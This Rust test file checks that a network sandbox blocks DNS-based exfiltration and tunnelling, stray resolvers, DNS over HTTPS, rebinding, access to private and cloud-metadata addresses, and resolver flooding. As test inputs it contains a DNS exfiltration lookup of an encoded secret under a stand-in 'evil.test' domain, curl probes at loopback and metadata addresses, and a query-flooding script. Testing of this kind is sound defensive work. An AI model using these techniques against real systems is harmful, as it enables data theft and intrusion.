//! Names: what is asked, what is answered, and where it leads. Security cases 68 to 71.

use std::time::Duration;

use serde_json::json;
use wardian_tests::host::Host;
use wardian_tests::mode::Mode;
use wardian_tests::origin::Origin;
use wardian_tests::policy::Policy;

use crate::network::{CONNECT, UDP};
use crate::support::{Resolver, lines, refused_for};

wardian_tests::both_modes!(
    case_68_no_question_leaves,
    case_69_other_resolvers_are_not_reached,
    case_70_dns_over_https_is_http,
    case_70_no_tunnel_in_dns,
    case_71_allowed_names_that_lead_to_private_addresses,
    case_71_rebinding,
    made_up_names_leave_room_for_named_hosts,
    synthetic_addresses_for_allowed_names,
);

fn case_68_no_question_leaves(mode: Mode) {
    let host = Host::new(mode);
    let resolver = Resolver::new(
        &host,
        json!({"allowed.test": ["198.51.100.7"], "evil.test": ["198.51.100.8"], "c2VjcmV0.evil.test": ["198.51.100.8"]}),
    );
    // Control: without a sandbox the question arrives.
    let script = "getent ahosts c2VjcmV0.evil.test >/dev/null; exit 0";
    resolver
        .around(host.run(["true"]).by_way_of(&[
            "sh",
            "-c",
            &format!("{script}; exec \"$@\""),
            "sh",
        ]))
        .finish()
        .success();
    assert!(
        resolver
            .questions()
            .iter()
            .any(|name| name == "c2vjcmv0.evil.test"),
        "{:?}",
        resolver.questions()
    );

    let script = "dig +short c2VjcmV0.evil.test; dig +short +tcp c2VjcmV0.evil.test TXT; getent hosts c2VjcmV0.evil.test; getent hosts evil.test; exit 0";
    let outcome = resolver
        .around(
            host.shell(script)
                .policy(&Policy::new().allow("allowed.test")),
        )
        .finish()
        .success();
    assert_eq!(outcome.text(), "");
    assert_eq!(resolver.questions(), Vec::<String>::new());
    refused_for(&outcome.events(), &["no_rule"]);
}

fn case_69_other_resolvers_are_not_reached(mode: Mode) {
    let host = Host::new(mode);
    let policy = Policy::new().allow("allowed.test");
    // To port 53 of any address: the door answers, by the same rules.
    let script = "dig +short +time=2 +tries=1 @198.51.100.53 evil.test; dig +short +time=2 +tries=1 +tcp @198.51.100.53 evil.test
        dig +short +time=2 +tries=1 @198.51.100.53 allowed.test; exit 0";
    let outcome = host.shell(script).policy(&policy).finish().success();
    let told = lines(&outcome);
    assert_eq!(told.len(), 1, "{outcome:?}");
    assert!(
        told[0].starts_with("198.18.") || told[0].starts_with("198.19."),
        "{outcome:?}"
    );
    // DNS over TLS, over QUIC, multicast and link-local resolution.
    let outcome = host
        .run([
            "/usr/bin/python3",
            "-c",
            CONNECT,
            "198.51.100.53",
            "853",
            "x",
        ])
        .policy(&policy)
        .finish()
        .success();
    assert!(
        ["refused", "closed"].contains(&outcome.text().trim()),
        "{outcome:?}"
    );
    outcome.events().one_refusal(&["no_rule"]);
    for (address, port) in [
        ("198.51.100.53", "853"),
        ("224.0.0.251", "5353"),
        ("224.0.0.252", "5355"),
        ("ff02::fb", "5353"),
    ] {
        let outcome = host
            .run(["/usr/bin/python3", "-c", UDP, address, port])
            .policy(&policy)
            .finish()
            .success();
        assert_eq!(
            outcome.text().trim(),
            "refused",
            "{address} {port}: {outcome:?}"
        );
    }
}

fn case_70_dns_over_https_is_http(mode: Mode) {
    let host = Host::new(mode);
    let origin = Origin::https();
    let question = "AAABAAABAAAAAAAAA3d3dwRldmlsBHRlc3QAAAEAAQ";
    let curl = format!(
        "curl -sS -o /dev/null -w '%{{http_code}}\\n' 'https://origin.test/dns-query?dns={question}'; \
        curl -sS -o /dev/null -w '%{{http_code}}\\n' -H 'content-type: application/dns-message' --data-binary x https://origin.test/dns-query"
    );
    let open = Policy::new().pin("origin.test", origin.address());
    assert_eq!(
        lines(&host.shell(&curl).policy(&open).finish().success()),
        ["200", "200"]
    );
    let before = origin.requests().len();
    let narrow = Policy::new().pin_with(
        "origin.test",
        origin.address(),
        "methods = [\"GET\"]\npaths = [\"/api/**\"]",
    );
    let outcome = host.shell(&curl).policy(&narrow).finish().success();
    assert_eq!(lines(&outcome), ["403", "403"]);
    assert_eq!(origin.requests().len(), before);
    assert_eq!(
        outcome.events().reasons("request"),
        ["no_rule_for_request", "no_rule_for_request"]
    );
}

fn case_70_no_tunnel_in_dns(mode: Mode) {
    let host = Host::new(mode);
    // Below an allowed wildcard anything may be asked, but nothing but synthetic addresses comes back, and nothing goes out.
    let resolver = Resolver::new(&host, json!({"x.tunnel.test": ["198.51.100.7"]}));
    let policy = Policy::new().allow("*.tunnel.test");
    let script = "for type in TXT NULL MX SRV CNAME ANY SVCB; do dig +short +time=2 +tries=1 x.tunnel.test $type; done; dig +short x.tunnel.test A";
    let outcome = resolver
        .around(host.shell(script).policy(&policy))
        .finish()
        .success();
    let told = lines(&outcome);
    let synthetic = |line: &String| {
        line.starts_with("198.18.") || line.starts_with("198.19.") || line.starts_with("fd")
    };
    assert!(
        !told.is_empty() && told.iter().all(synthetic),
        "{outcome:?}"
    );
    assert_eq!(resolver.questions(), Vec::<String>::new());
}

fn case_71_allowed_names_that_lead_to_private_addresses(mode: Mode) {
    let host = Host::new(mode);
    let addresses = [
        ("loopback", "127.0.0.1"),
        ("private", "10.1.2.3"),
        ("private2", "172.16.3.4"),
        ("private3", "192.168.1.1"),
        ("metadata", "169.254.169.254"),
        ("nat", "100.64.1.1"),
        ("zero", "0.0.0.0"),
        ("six", "::1"),
        ("mapped", "::ffff:127.0.0.1"),
        ("nat64", "64:ff9b::7f00:1"),
        ("ula", "fd00::1"),
        ("local", "fe80::1"),
        ("sixtofour", "2002:7f00:1::"),
        ("broadcast", "255.255.255.255"),
        ("multicast", "224.0.0.1"),
    ];
    let answers: serde_json::Map<String, serde_json::Value> = addresses
        .iter()
        .map(|(name, address)| (format!("{name}.test"), json!([address])))
        .collect();
    let resolver = Resolver::new(&host, answers.into()).with_server("loopback.test");
    let mut policy = Policy::new();
    let mut script = String::new();
    for (name, _) in addresses {
        policy = policy.rule(&format!("host = \"{name}.test\"\nports = [80]"));
        script.push_str(&format!(
            "curl -s -m 8 -o /dev/null -w '{name} %{{http_code}}\\n' http://{name}.test/; "
        ));
    }
    script.push_str("exit 0");
    let outcome = resolver
        .around(
            host.shell(&script)
                .policy(&policy)
                .limit(Duration::from_secs(60)),
        )
        .finish()
        .success();
    let told = lines(&outcome);
    assert_eq!(told[0], "control 200", "{outcome:?}");
    assert_eq!(told.len(), addresses.len() + 1, "{outcome:?}");
    for line in &told[1..] {
        assert!(
            line.ends_with(" 403") || line.ends_with(" 502"),
            "{line}: {outcome:?}"
        );
    }
    let events = outcome.events();
    let private = events
        .all()
        .iter()
        .filter(|event| event["reason"] == "private_address")
        .count();
    assert!(private >= addresses.len() - 2, "{:#?}", events.denied());
}

fn case_71_rebinding(mode: Mode) {
    let host = Host::new(mode);
    // First an address in a documentation network, then loopback, where a server listens.
    let resolver = Resolver::new(
        &host,
        json!({"rebind.test": ["127.0.0.1", "198.51.100.7", "127.0.0.1", "127.0.0.1"]}),
    )
    .with_server("rebind.test");
    let script = "for i in 1 2 3 4 5; do curl -s -m 8 -o /dev/null -w '%{http_code} ' http://rebind.test/; done; exit 0";
    let policy = Policy::new().rule("host = \"rebind.test\"\nports = [80]");
    let run = host.shell(script).policy(&policy);
    let outcome = resolver.around(run).finish().success();
    let text = outcome.text();
    assert!(text.starts_with("control 200"), "{outcome:?}");
    assert_eq!(text.matches("200").count(), 1, "{outcome:?}");
    assert!(
        outcome
            .events()
            .all()
            .iter()
            .any(|event| event["reason"] == "private_address")
    );
}

fn synthetic_addresses_for_allowed_names(mode: Mode) {
    let host = Host::new(mode);
    let policy = Policy::new().allow("one.test").allow("two.test");
    let program = "import socket
for name in ('one.test', 'two.test', 'one.test', 'ONE.test'):
    print(' '.join(sorted({i[4][0] for i in socket.getaddrinfo(name, 443)})))
for name in ('three.test', 'one.test.evil.test'):
    try: print(socket.getaddrinfo(name, 443))
    except socket.gaierror as e: print(e.errno == socket.EAI_NONAME)";
    let outcome = host.python(program).policy(&policy).finish().success();
    let told = lines(&outcome);
    assert_eq!(
        (told[0] == told[2], told[0] == told[3], told[0] == told[1]),
        (true, true, false),
        "{told:?}"
    );
    assert!(
        told[0].split(' ').any(|a| a.starts_with("198.1"))
            && told[0].split(' ').any(|a| a.starts_with("fd")),
        "{told:?}"
    );
    assert_eq!(told[4..], ["True", "True"]);
}

/// Asks for names below a wildcard until there is no room for more, and then for a host that the policy names.
const FLOOD: &str = r#"import socket, struct, sys
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.connect(("198.51.100.53", 53))
server.settimeout(5)
def ask(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    server.send(struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1))
    return server.recv(512)[3] & 15
codes = [ask(f"n{n}.wild.test") for n in range(5000)]
print("answered", codes.count(0), "failed", codes.count(2), "made up", ask("once-more.wild.test"), flush=True)
"#;

fn made_up_names_leave_room_for_named_hosts(mode: Mode) {
    let host = Host::new(mode);
    let origin = Origin::https();
    let policy = Policy::new()
        .allow("*.wild.test")
        .pin("origin.test", origin.address());
    let script = "/usr/bin/python3 -c \"$1\"; curl -sS -o /dev/null -w '%{http_code}\\n' https://origin.test/";
    let outcome = host
        .run(["sh", "-c", script, "sh", FLOOD])
        .policy(&policy)
        .finish()
        .success();
    // The first line is the control: the flood does fill what it can.
    assert_eq!(
        lines(&outcome),
        ["answered 4096 failed 904 made up 2", "200"],
        "{outcome:?}"
    );
    refused_for(&outcome.events(), &["too_many_names"]);
}
